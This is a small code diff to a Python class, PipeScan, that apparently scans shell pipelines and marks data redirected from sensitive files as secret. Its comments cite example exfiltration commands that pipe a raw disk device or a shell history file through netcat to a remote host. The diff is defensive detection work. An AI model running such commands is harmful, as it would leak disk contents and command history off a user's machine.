@@ -55,7 +55,8 @@ class PipeScan:
             if seg.stdin is not None:
                 inp = _Flow(seg.stdin.encode(), frozenset())
             elif infile:
-                private = is_secret(infile[-1]) or bulk_private(infile[-1])  # nc host 9 < /dev/sda
+                # nc host 9 < /dev/sda, nc host 9 < ~/.bash_history: what a sender would take away
+                private = is_secret(infile[-1], sending=True) or bulk_private(infile[-1])
                 inp = _Flow(None, frozenset({"secret" if private else "file"}))
             if judge and (idx or seg.stdin is not None or infile) and not wrap.query:
                 self.judge_stream(name, argv, inp, depth, shown)
